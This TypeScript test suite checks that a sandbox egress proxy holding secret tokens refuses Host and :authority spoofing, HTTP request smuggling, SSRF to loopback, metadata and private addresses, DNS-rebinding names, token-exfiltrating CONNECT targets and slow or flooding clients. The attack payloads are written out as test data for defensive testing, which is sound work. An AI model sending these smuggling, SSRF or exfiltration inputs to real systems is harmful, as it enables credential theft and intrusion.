import { spawn, type ChildProcess } from "node:child_process";
import { once } from "node:events";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Sandbox } from "@squash/sdk";
import { places } from "../../support/internet.js";
import { lacks } from "../../support/needs.js";
import { askHttp2, lines, shell, talk, talkAll, type Http2Request, type Talk } from "../../support/secrets/inside.js";
import { rawHttp2 } from "../../support/secrets/raw-http2.js";
import { header, serverPlaces } from "../../support/secrets/server.js";
import { useSecrets } from "../../support/secrets/target.js";
import { usualSecrets } from "../../support/secrets/usual-secrets.js";

const target = useSecrets();
const { TOKEN } = usualSecrets;
const host = "api.example.com";
const gateway = "10.200.0.1";
const proxyPort = 8888;
/** beyond the time that the proxy gives a head, which is 15 s, and the second in which it looks for late ones */
const slowMs = 18_000;

/** `shut` has secrets; what is tried in `bare` goes to the server as it is. */
const made: { shut?: Sandbox; bare?: Sandbox; other?: Sandbox } = {};
const background: { slow?: Promise<string[]> } = {};
beforeAll(async () => {
  made.shut = await target.create({ id: "shut" });
  made.bare = await target.create({ id: "bare", secrets: [] });
  made.other = await target.create({ id: "other" });
  const begun = lines("GET /record HTTP/1.1", `Host: ${host}`);
  const drip = Array.from({ length: slowMs / 500 }, (_, index) => `X-${index}: y\r\n`);
  const slow = { host, pieces: [begun, ...drip], pauseMs: 500, timeoutMs: slowMs - 1_000 };
  background.slow = Promise.all([made.shut, made.bare].map(async (each) => (await talk(each, slow)).end));
});
afterAll(() => target.squashd.destroyAll());

function box(which: "shut" | "bare" | "other"): Sandbox {
  const found = made[which];
  if (found === undefined) throw new Error("the sandbox was not made");
  return found;
}

const bearer = `Authorization: Bearer ${TOKEN.placeholder}`;

async function raw(which: Sandbox, request: string, more: Partial<Talk> = {}): Promise<string> {
  const { text, end } = await talk(which, { host, pieces: [request], timeoutMs: 1_200, ...more });
  return text || end;
}

async function http2(
  which: Sandbox,
  headers: Readonly<Record<string, string>>,
  more: Partial<Http2Request> = {},
): Promise<string> {
  const [answer] = await askHttp2(which, host, [
    { headers: { ":path": "/record", authorization: `Bearer ${TOKEN.placeholder}`, ...headers }, ...more },
  ]);
  return `${answer?.status ?? 0} ${answer?.text ?? ""}${answer?.error ?? ""}`;
}

const get = (...fields: readonly string[]): string =>
  lines("GET /record HTTP/1.1", ...fields, bearer, "Connection: close", "");

type Attack = (which: Sandbox) => Promise<string>;

/** What arrives at a server that is asked directly, and is refused by the proxy: how, and what is told of it. */
const attacks: Readonly<Record<string, readonly [Attack, refused: RegExp, rule: RegExp]>> = {
  "another host in Host": [
    (it) => raw(it, get("Host: evil.example.net")),
    /^HTTP\/1\.1 421/,
    /not the name of the TLS connection/,
  ],
  "another host of the same secret in Host": [
    (it) => raw(it, get("Host: h1.example.com")),
    /^HTTP\/1\.1 421/,
    /not the name of the TLS connection/,
  ],
  "another host in Host later on the connection": [
    (it) =>
      raw(it, "", {
        pieces: [
          lines("OPTIONS * HTTP/1.1", `Host: ${host}`, ""),
          lines("GET /later HTTP/1.1", "Host: evil.example.net", bearer, "Connection: close", ""),
        ],
        pauseMs: 300,
      }),
    /HTTP\/1\.1 421/,
    /not the name of the TLS connection/,
  ],
  "two Host fields": [
    (it) => raw(it, get(`Host: ${host}`, "Host: evil.example.net")),
    /^HTTP\/1\.1 400/,
    /more than one Host/,
  ],
  "no Host field": [(it) => raw(it, lines("GET /record HTTP/1.0", bearer, "")), /^HTTP\/1\.1 400/, /no Host/],
  "another port in Host": [(it) => raw(it, get(`Host: ${host}:8443`)), /^HTTP\/1\.1 4/, /Host/],
  "a name behind credentials in Host": [
    (it) => raw(it, get(`Host: ${host}@evil.example.net`)),
    /^HTTP\/1\.1 400/,
    /Host/,
  ],
  "a whole URL of another host": [
    (it) =>
      raw(it, lines("GET https://evil.example.net/record HTTP/1.1", `Host: ${host}`, bearer, "Connection: close", "")),
    /^HTTP\/1\.1 400/,
    /does not agree/,
  ],
  "a whole URL without TLS": [
    (it) => raw(it, lines(`GET http://${host}/record HTTP/1.1`, `Host: ${host}`, bearer, "Connection: close", "")),
    /^HTTP\/1\.1 400/,
    /neither a path nor/,
  ],
  "another host in :authority": [
    (it) => http2(it, { ":authority": "evil.example.net" }),
    /^421/,
    /not the name of the TLS connection/,
  ],
  "another host of the same secret in :authority": [
    (it) => http2(it, { ":authority": "h1.example.com" }),
    /^421/,
    /not the name of the TLS connection/,
  ],
  "a name behind credentials in :authority": [
    (it) => http2(it, { ":authority": `${host}@evil.example.net` }),
    /^400/,
    /authority/,
  ],
  "another port in :authority": [(it) => http2(it, { ":authority": `${host}:8443` }), /^4/, /authority/],
  "no TLS in :scheme": [(it) => http2(it, { ":scheme": "http" }), /^400/, /not one for an https URL/],
  "headers of 200 KB": [
    (it) => raw(it, get(`Host: ${host}`, `X-Large: ${"x".repeat(200_000)}`)),
    /^HTTP\/1\.1 431/,
    /large|limit|head/i,
  ],
};

describe.skipIf(lacks("root"))("what arrives without the proxy, and is refused with it:", () => {
  it.each(Object.entries(attacks))("%s", async (_, [attack, refused, rule]) => {
    expect(await target.server.arrivalsOf(() => attack(box("bare")))).not.toEqual([]);
    const arrivals = await target.server.arrivalsOf(async () => expect(await attack(box("shut"))).toMatch(refused));
    expect(arrivals.filter(({ method }) => method !== "OPTIONS")).toEqual([]);
    const log = await box("shut").networkLog();
    expect(log.filter(({ verdict }) => verdict === "refused").at(-1)?.rule).toMatch(rule);
  });

  it("the address of another server behind an allowed name", async () => {
    const request = { address: serverPlaces.evil, verify: false };
    const bare = await target.server.arrivalsOf(() => raw(box("bare"), get(`Host: ${host}`), request));
    expect(bare.map(({ address }) => address)).toEqual([serverPlaces.evil]);
    const shut = await target.server.arrivalsOf(() => raw(box("shut"), get(`Host: ${host}`), request));
    expect(shut.map(({ address }) => address)).toEqual([serverPlaces.good]);
  });

  it("no name in the hello of TLS, with which nothing is put in", async () => {
    const request = { serverName: "", verify: false };
    const bare = await target.server.arrivalsOf(() => raw(box("bare"), get(`Host: ${host}`), request));
    expect(bare).toHaveLength(1);
    const shut = await target.server.arrivalsOf(() => raw(box("shut"), get(`Host: ${host}`), request));
    expect(JSON.stringify(shut)).not.toContain(TOKEN.value);
  });
});

const second = lines("GET /smuggled HTTP/1.1", "Host: evil.example.net", bearer, "Connection: close", "");
const end = lines("0", "");
const chunked = "Transfer-Encoding: chunked";
const post = (...fields: readonly string[]): string => lines("POST /record HTTP/1.1", `Host: ${host}`, ...fields, "");
const covering = `Content-Length: ${end.length + second.length}`;

/** Requests with a second one that a server may find in them; those of the second list no server of these tests falls for. */
const smuggled: Readonly<Record<string, string>> = {
  "ahead of its time": lines("GET /record HTTP/1.1", `Host: ${host}`, "") + second,
  "behind chunks, with a length that covers it": post(covering, chunked) + end + second,
  "behind chunks, before a length that covers it": post(chunked, covering) + end + second,
  "behind the end of a body": `${post("Content-Length: 3")}abc${second}`,
  "behind a chunk with an extension": `${post(chunked)}0;x=y\r\n\r\n${second}`,
  "behind lines without CR": `GET /record HTTP/1.1\nHost: ${host}\n\n${second}`,
};
const doubtful: Readonly<Record<string, string>> = {
  "behind a coding with a space before its colon": post("Transfer-Encoding : chunked", covering) + end + second,
  "behind a coding on a folded line": post("Transfer-Encoding:\r\n chunked", covering) + end + second,
  "behind a coding that is not quite chunked": post("Transfer-Encoding: xchunked", covering) + end + second,
  "behind two codings": post("Transfer-Encoding: identity", chunked, covering) + end + second,
  "behind chunked and another one": post("Transfer-Encoding: chunked, identity", covering) + end + second,
  "behind two lengths": post("Content-Length: 0", `Content-Length: ${second.length}`) + second,
  "behind a length with a sign": post(`Content-Length: +${second.length}`) + second,
  "behind a list of lengths": post(`Content-Length: 0, ${second.length}`) + second,
  "behind a size with a prefix": `${post(chunked)}0x0\r\n\r\n${second}`,
  "behind a bare CR in a field": post(`X-A: b\rTransfer-Encoding: chunked`, covering) + end + second,
  "behind a zero character in a field": post(`X-A: b\0`, chunked) + end + second,
  "in a field, behind CR and LF that a client wrote": post(`X-A: b\r\n\r\n${second}`),
};

describe.skipIf(lacks("root"))("a request that is hidden in another one", () => {
  /** Tries all at once; how many hidden ones arrived, by name. */
  const hidden = async (
    which: "shut" | "bare",
    requests: Readonly<Record<string, string>>,
  ): Promise<Record<string, number>> => {
    const names = Object.keys(requests);
    // each is to be known again where it arrives
    const tasks = Object.values(requests).map((bytes, index) => ({
      host,
      pieces: [bytes.replace("/smuggled", `/smuggled${String(index).padStart(2, "0")}`)],
      timeoutMs: 1_000,
    }));
    const arrivals = await target.server.arrivalsOf(() => talkAll(box(which), tasks));
    const found = arrivals.filter(({ target: path }) => path.startsWith("/smuggled"));
    if (which === "shut") expect(JSON.stringify(found)).not.toContain(TOKEN.value);
    return Object.fromEntries(
      names.map((name, index) => [name, found.filter(({ target: path }) => Number(path.slice(-2)) === index).length]),
    );
  };
  const each = (requests: Readonly<Record<string, string>>, count: number): Record<string, number> =>
    Object.fromEntries(Object.keys(requests).map((name) => [name, count]));

  it("arrives without the proxy, and not with it", async () => {
    expect(await hidden("bare", smuggled)).toEqual(each(smuggled, 1));
    expect(await hidden("shut", smuggled)).toEqual(each(smuggled, 0));
  });

  it("does not arrive in any form that is known to have worked somewhere", async () => {
    expect(await hidden("shut", doubtful)).toEqual(each(doubtful, 0));
  });

  it("does not arrive in frames of HTTP/2 that no library would send", async () => {
    const cases = rawHttp2("h1.example.com", bearer);
    const tasks = cases.map(({ bytes }) => ({ host: "h1.example.com", alpn: "h2", pieces: [bytes], endMs: 1_000 }));
    const arrivals = await target.server.arrivalsOf(() => talkAll(box("shut"), tasks));
    const names = arrivals.map((each) => header(each, "x-case"));
    expect(names.toSorted()).toEqual(cases.flatMap(({ name, arrives }) => (arrives ? [name] : [])).toSorted());
    // a field that is none is left out
    expect(JSON.stringify(arrivals)).not.toMatch(/smuggled/i);
    expect(arrivals.map(({ target: path, method }) => `${method} ${path}`)).toEqual(arrivals.map(() => "POST /record"));
  });
});

describe.skipIf(lacks("root"))("the explicit proxy", () => {
  const { metadata, lan, hostPrivate } = places;
  let server: ChildProcess;
  let hits = 0;
  beforeAll(async () => {
    // somebody is there: at each address of the host
    const program =
      'require("http").createServer((q, s) => { console.log("hit"); s.end("the host\\n") }).listen(80, "0.0.0.0", () => console.log("ready"))';
    server = spawn(...target.squashd.netns.enter(process.execPath, ["-e", program]), {
      stdio: ["ignore", "pipe", "inherit"],
    });
    server.stdout?.on("data", (text: Buffer) => (hits += text.toString().split("hit").length - 1));
    await once(server.stdout ?? server, "data");
  });
  afterAll(async () => {
    const gone = once(server, "exit");
    server.kill("SIGKILL");
    await gone;
  });

  const inner = [
    "127.0.0.1",
    "localhost",
    "127.1",
    "2130706433",
    "0x7f000001",
    "0",
    "[::1]",
    "[::ffff:127.0.0.1]",
    gateway,
    `${gateway}:${proxyPort}`,
    metadata,
    lan,
    places.host,
    hostPrivate,
  ];
  const names = [
    "rebind-loopback.example.org",
    "rebind-meta.example.org",
    "rebind.example.org",
    "rebind-host.example.org",
    "rebind-public.example.org",
  ];

  it("does not go to the host, to its API, to metadata or to private networks, which are there", async () => {
    const { netns } = target.squashd;
    for (const address of ["127.0.0.1", hostPrivate, gateway])
      expect(netns.run("curl", "-s", "-m", "2", `http://${address}/`)).toBe("the host\n");
    for (const address of [metadata, lan])
      expect(netns.run("curl", "-s", "-m", "2", `http://${address}/`)).toMatch(/^hello from/);
    const proxy = `-x http://${gateway}:${proxyPort} --noproxy '' -m 3 -s -o /dev/null -w '%{http_code} %{http_connect}\\n'`;
    await expect.poll(() => hits).toBe(3);
    const before = target.internet.arrivals.length;
    const asked = [...inner, ...names].flatMap((each) => [
      `http://${each}/`,
      `https://${each.replace(/(?<!\]):\d+$/, "")}/`,
    ]);
    const said = await shell(
      box("shut"),
      `for u in ${asked.map((url) => `'${url}'`).join(" ")}; do echo "$u $(curl ${proxy} "$u")" & done; wait`,
      120,
    );
    const told = said.trim().split("\n");
    expect(told.filter((line) => line.startsWith("http"))).toHaveLength(asked.length);
    expect(told.filter((line) => !/ (4\d\d|502|000) \d+$/.test(line))).toEqual([]);
    await target.internet.settled();
    expect(hits).toBe(3);
    expect(target.internet.arrivals.slice(before).filter(({ server: at }) => !at.startsWith("dns"))).toEqual([]);
  });

  it("takes no value for the name of a host, and no host behind another", async () => {
    const connect = (to: string): Promise<string> =>
      raw(box("shut"), lines(`CONNECT ${to} HTTP/1.1`, `Host: ${to}`, ""), {
        host: gateway,
        port: proxyPort,
        tls: false,
        timeoutMs: 800,
      });
    const before = target.internet.arrivals.length;
    const [, , ...refusals] = await Promise.all(
      [
        `${TOKEN.placeholder}.example.net:443`,
        `${TOKEN.placeholder}:443`,
        `${host}:443@evil.example.net:443`,
        `evil.example.net:443/${host}`,
      ].map(connect),
    );
    for (const refusal of refusals) expect(refusal).toMatch(/^HTTP\/1\.1 4/);
    await target.internet.settled();
    expect(JSON.stringify(target.internet.arrivals.slice(before))).not.toContain(TOKEN.value);
  });

  it("has TLS within CONNECT for the name that it was asked for, or not at all", async () => {
    const line = (sni: string): string =>
      `printf 'GET /record HTTP/1.1\\r\\nHost: ${sni}\\r\\n${bearer}\\r\\nConnection: close\\r\\n\\r\\n' | openssl s_client -quiet -proxy ${gateway}:${proxyPort} -connect ${host}:443 -servername ${sni} 2>&1`;
    const right = await target.server.arrivalsOf(async () =>
      expect(await shell(box("shut"), line(host))).toContain("recorded"),
    );
    expect(JSON.stringify(right)).toContain(TOKEN.value);
    const wrong = await target.server.arrivalsOf(() => shell(box("shut"), line("evil.example.net")));
    expect(JSON.stringify(wrong)).not.toContain(TOKEN.value);
    expect(wrong.filter(({ kind }) => kind === "request")).toEqual([]);
  });

  it("is not there for a sandbox without secrets' values, by name of another", async () => {
    const said = await shell(
      box("bare"),
      `curl -sS -m 3 -x http://${gateway}:${proxyPort} -H '${bearer}' https://${host}/record`,
    );
    expect(said).not.toContain(TOKEN.value);
  });
});

describe.skipIf(lacks("root"))("a client that takes its time", () => {
  it("has 512 connections at most, and keeps nobody else from the proxy", async () => {
    const flooding = shell(box("shut"), `node /opt/clients/flood.mjs ${host} ${gateway} ${proxyPort}`);
    const left = async (): Promise<number> => Number(await shell(box("shut"), "cat /tmp/left 2>/dev/null || true"));
    // a proxy that is busy closes them a moment later
    await expect.poll(left, { timeout: 20_000 }).toSatisfy((count: number) => count > 300 && count <= 512);
    const begin = performance.now();
    expect(await shell(box("other"), `curl -sS -H "Authorization: Bearer $TOKEN" https://${host}/record`)).toBe(
      "recorded\n",
    );
    expect(performance.now() - begin).toBeLessThan(3_000);
    await shell(box("shut"), "touch /tmp/enough");
    await flooding;
  });

  it("is cut off in the middle of its headers, where the server alone would wait", async () => {
    const [shut, bare] = (await background.slow) ?? [];
    expect(shut).toMatch(/^(end|close|ECONNRESET|EPIPE)$/);
    expect(bare).toBe("silence");
  });
});
